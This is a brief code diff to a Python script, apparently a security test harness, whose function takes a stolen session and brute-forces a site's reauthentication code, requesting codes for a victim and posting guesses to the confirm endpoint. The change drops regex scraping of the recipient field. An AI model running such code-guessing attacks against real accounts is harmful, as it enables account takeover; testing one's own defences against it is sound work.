@@ -6,7 +6,6 @@ all the while.
 """
 
 import random
-import re
 import subprocess
 import threading
 import time
@@ -113,9 +112,7 @@ def with_a_stolen_session_and_a_code(site: str, victim: str) -> Try:
 
     def try_(guess: str, address: str) -> requests.Response:
         if next(tried) % 2 == 0:
-            form = browser.session.get(f"{site}/account/reauthenticate/code/", timeout=120).text
-            recipient = re.findall(r'name="recipient" value="([^"]*)"', form)
-            browser.post("/account/reauthenticate/code/", recipient=recipient[0], address=address)
+            browser.post("/account/reauthenticate/code/", recipient=victim, address=address)
         return browser.post("/account/reauthenticate/code/confirm/", code=guess, address=address)
 
     return try_
